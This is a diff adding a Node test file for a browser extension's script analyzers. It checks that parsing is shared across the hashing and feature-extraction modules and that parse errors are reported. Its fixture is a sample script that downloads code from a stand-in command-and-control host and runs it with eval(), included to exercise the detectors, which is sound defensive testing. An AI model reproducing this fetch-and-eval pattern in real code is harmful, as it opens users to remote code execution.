@@ -0,0 +1,64 @@
+// ScriptSource parse / token sharing between the analyzers (from firefox-extension/):  node --test test/*.test.js
+const test = require('node:test');
+const assert = require('node:assert/strict');
+const acorn = require('../lib/acorn.min.js');
+const ScriptSource = require('../utils/script-source.js');
+const FeatureExtractor = require('../utils/feature-extractor.js');
+const FuzzyHash = require('../utils/fuzzy-hash.js');
+const NormalizedHash = require('../utils/normalized-hash.js');
+
+const SCRIPT = `
+  var target = 'https://c2.example.invalid/p', pattern = /a+b/g;
+  function load(url, done) {
+    var xhr = new XMLHttpRequest();
+    xhr.onload = function () { done(eval(xhr.responseText)); };
+    xhr.open("GET", \`\${url}?t=\${Date.now()}\`);
+    xhr.send();
+  }
+  load(target, function (result) { document.title = result.replace(pattern, ''); });
+`;
+
+// acorn with parse() / tokenizer() calls counted, in place of the real one for ScriptSource
+function countingParser() {
+  const calls = { parse: 0, tokenizer: 0 };
+  const parser = {
+    parse: (...args) => { calls.parse++; return acorn.parse(...args); },
+    tokenizer: (...args) => { calls.tokenizer++; return acorn.tokenizer(...args); }
+  };
+  return { calls, parser };
+}
+
+async function analyze(content) {
+  return {
+    canonical: NormalizedHash.canonicalize(content),
+    fingerprint: FuzzyHash.fingerprint(content),
+    features: (await FeatureExtractor.extractFeatures(content)).features
+  };
+}
+
+test('the analyzers share one parse of a source and get the same results as from text', async (t) => {
+  const fromText = await analyze(SCRIPT);
+  const { calls, parser } = countingParser();
+  t.mock.method(ScriptSource, 'getParser', () => parser);
+
+  const source = ScriptSource.from(SCRIPT);
+  assert.equal(ScriptSource.from(source), source);
+  assert.deepEqual(await analyze(source), fromText);
+  assert.deepEqual(calls, { parse: 1, tokenizer: 0 });
+  assert.deepEqual(ScriptSource.tokens(source).map(tok => tok.type.label), Array.from(acorn.tokenizer(SCRIPT, { ecmaVersion: 'latest' }), tok => tok.type.label));
+});
+
+test('a script that does not parse is tokenized once and reports the parse error', async (t) => {
+  const broken = SCRIPT + '\n}';
+  const { calls, parser } = countingParser();
+  t.mock.method(ScriptSource, 'getParser', () => parser);
+
+  const source = ScriptSource.from(broken);
+  const { canonical, fingerprint, features } = await analyze(source);
+  assert.equal(typeof canonical, 'string');
+  assert.ok(fingerprint);
+  assert.equal(features.parsed, false);
+  assert.match(source.parseError, /^Parse error: Unexpected token/);
+  assert.deepEqual(calls, { parse: 2, tokenizer: 1 }, 'script and module parse attempts, then one tokenizer pass');
+  assert.equal(ScriptSource.from(42), null);
+});